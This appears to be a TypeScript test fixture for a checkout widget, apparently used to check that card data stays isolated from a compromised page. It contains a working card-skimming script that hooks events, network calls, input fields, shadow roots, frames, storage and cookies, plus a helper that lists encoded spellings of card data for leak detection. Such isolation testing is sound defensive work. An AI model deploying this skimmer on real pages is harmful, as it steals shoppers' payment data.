/**
 * The script of a shop's page gone bad, as text: it runs before everything else, patches whatever a page can, and keeps
 * what it sees in `window.loot`. It is written to see a card number wherever one passes within its reach.
 */
export const HOSTILE_SCRIPT = `(() => {
  const loot = (window.loot = []);
  const push = loot.push.bind(loot);
  const stringify = JSON.stringify;
  const apply = Reflect.apply;
  let deep = false;
  const note = (where, value) => {
    if (deep) return;
    deep = true;
    try {
      let text = '';
      if (typeof value === 'string') text = value;
      else if (value instanceof Event) {
        text = [value.type, value.key, value.data, value.inputType].join(' ');
        for (const node of value.composedPath?.() ?? []) if (node && 'value' in node) text += ' value=' + node.value;
        if ('clipboardData' in value) text += value.clipboardData?.getData('text');
        if ('dataTransfer' in value) text += value.dataTransfer?.getData?.('text');
        if (value instanceof MessageEvent) text += stringify(value.data);
      } else text = stringify(value) ?? String(value);
      if (text !== '') push(where + ': ' + text.slice(0, 5000));
    } catch (error) { push(where + ' threw ' + error); }
    deep = false;
  };
  const wrap = (target, name, where) => {
    const own = target?.[name];
    if (typeof own !== 'function') return;
    target[name] = function (...args) {
      for (const arg of args) note(where + '.' + name, arg);
      const result = new.target ? Reflect.construct(own, args, new.target) : apply(own, this, args);
      note(where + '.' + name + ' gave', result);
      return result;
    };
  };
  // Every event, wherever it is heard, and every event sent by a script.
  const listen = EventTarget.prototype.addEventListener;
  EventTarget.prototype.addEventListener = function (type, listener, options) {
    const spy = typeof listener !== 'function' ? listener : function (event) {
      note('heard ' + type, event);
      return apply(listener, this, [event]);
    };
    return apply(listen, this, [type, spy, options]);
  };
  wrap(EventTarget.prototype, 'dispatchEvent', 'EventTarget');
  for (const type of ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'change', 'paste', 'copy', 'cut', 'compositionend',
    'drop', 'dragover', 'dragstart', 'selectionchange', 'message', 'focusin', 'submit', 'blur', 'focus']) {
    for (const target of [window, document]) apply(listen, target, [type, (event) => note('saw ' + type, event), true]);
  }
  for (const name of ['ready', 'change', 'submit', 'action', 'complete', 'error'])
    apply(listen, document, ['tillgate-' + name, (event) => note('event', Object.entries(event)), true]);
  // Open every shadow root and remember it.
  const roots = (window.roots = new Set());
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) {
    const root = apply(attach, this, [{ ...init, mode: 'open' }]);
    roots.add(root);
    return root;
  };
  wrap(window, 'postMessage', 'window');
  wrap(MessagePort.prototype, 'postMessage', 'MessagePort');
  const handler = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
  Object.defineProperty(MessagePort.prototype, 'onmessage', {
    ...handler,
    set(listener) {
      apply(handler.set, this, [(event) => { note('port', event.data); listener.call(this, event); }]);
    },
  });
  const Channel = window.MessageChannel;
  window.MessageChannel = class extends Channel {
    constructor() {
      super();
      window.ports = [...(window.ports ?? []), this.port1, this.port2];
    }
  };
  // What goes over the network from this page.
  wrap(window, 'fetch', 'window');
  wrap(XMLHttpRequest.prototype, 'send', 'XMLHttpRequest');
  wrap(XMLHttpRequest.prototype, 'open', 'XMLHttpRequest');
  wrap(Navigator.prototype, 'sendBeacon', 'navigator');
  wrap(HTMLFormElement.prototype, 'submit', 'form');
  // What every script uses.
  for (const [target, names, where] of [
    [JSON, ['stringify', 'parse'], 'JSON'],
    [Array.prototype, ['push', 'join', 'map', 'concat', 'includes'], 'Array'],
    [String.prototype, ['replace', 'replaceAll', 'slice', 'split', 'trim', 'match', 'padStart'], 'String'],
    [RegExp.prototype, ['test', 'exec'], 'RegExp'],
    [Storage.prototype, ['setItem'], 'Storage'],
    [CustomElementRegistry.prototype, ['define'], 'customElements'],
    [Element.prototype, ['setAttribute', 'append', 'replaceWith'], 'Element'],
    [Node.prototype, ['insertBefore', 'appendChild'], 'Node'],
    [CSSStyleDeclaration.prototype, ['setProperty'], 'style'],
  ]) for (const name of names) wrap(target, name, where);
  for (const prototype of [HTMLInputElement.prototype, HTMLTextAreaElement.prototype, HTMLSelectElement.prototype]) {
    const value = Object.getOwnPropertyDescriptor(prototype, 'value');
    Object.defineProperty(prototype, 'value', {
      ...value,
      get() { const text = apply(value.get, this, []); note('value read', text); return text; },
      set(text) { note('value set', text); apply(value.set, this, [text]); },
    });
  }
  for (const name of ['call', 'apply']) {
    const own = Function.prototype[name];
    Function.prototype[name] = function (...args) {
      if (!deep) for (const arg of args) if (typeof arg === 'string') note('Function.' + name, arg);
      return apply(own, this, args);
    };
  }
  // Setters that a careless copy of an object would fall into.
  for (const name of ['card', 'number', 'security_code', 'expiry_month', 'holder_name', 'holder']) {
    Object.defineProperty(Object.prototype, name, {
      configurable: true,
      set(value) {
        note('Object.prototype.' + name, value);
        Object.defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true });
      },
    });
  }
  // The frame's getters.
  for (const name of ['contentWindow', 'contentDocument', 'src']) {
    const own = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, name);
    Object.defineProperty(HTMLIFrameElement.prototype, name, {
      ...own,
      get() { const value = apply(own.get, this, []); window.frameSeen = this; return value; },
    });
  }
  // What can be asked for again and again: the trees, the selection, the frames, what was loaded.
  const look = (tree) => {
    for (const node of tree.querySelectorAll('*')) {
      if ('value' in node && node.value) note('a field', String(node.value));
      if (node.shadowRoot) look(node.shadowRoot);
    }
    note('text', tree.textContent ?? '');
  };
  window.rummage = () => {
    for (const root of [document, ...roots]) look(root);
    note('selection', String(getSelection()));
    for (const entry of performance.getEntries()) note('performance', entry.name);
    for (let at = 0; at < frames.length; at += 1) {
      for (const step of [
        () => frames[at].document.body.innerText,
        () => frames[at].document.querySelector('tillgate-checkout').shadowRoot.textContent,
        () => frames[at].localStorage.length,
        () => frames[at].name,
        () => frames[at].eval('document.body.innerHTML'),
        () => frames[at].location.href,
        () => window.frameSeen?.contentDocument?.body.innerText,
        () => Object.getOwnPropertyNames(frames[at]).map((name) => { try { return String(frames[at][name]); } catch { return ''; } }).join(),
      ]) {
        try { note('frame gave', String(step())); window.reached = (window.reached ?? 0) + 1; } catch { window.refused = (window.refused ?? 0) + 1; }
      }
    }
    note('storage', stringify({ ...localStorage, ...sessionStorage }));
    note('cookies', document.cookie);
  };
})();`;

/** Every spelling in which a recorder might have got hold of card data. */
export function spellingsOf(card: { number: string; code: string; expiry: readonly string[] }): string[] {
  const { number } = card;
  const parts: string[] = [];
  for (let at = 0; at + 5 <= number.length; at += 1) parts.push(number.slice(at, at + 5));
  const grouped = number.match(/.{1,4}/g)!;
  const texts = [...parts, grouped.join(' '), grouped.join('-'), card.code, ...card.expiry];
  return texts.flatMap((text) => [
    text,
    Buffer.from(text).toString('base64').replace(/=+$/, ''),
    Buffer.from(text).toString('hex'),
    encodeURIComponent(text),
    Array.from(text, (letter) => `%${letter.charCodeAt(0).toString(16)}`).join(''),
    Array.from(text).reverse().join(''),
  ]);
}
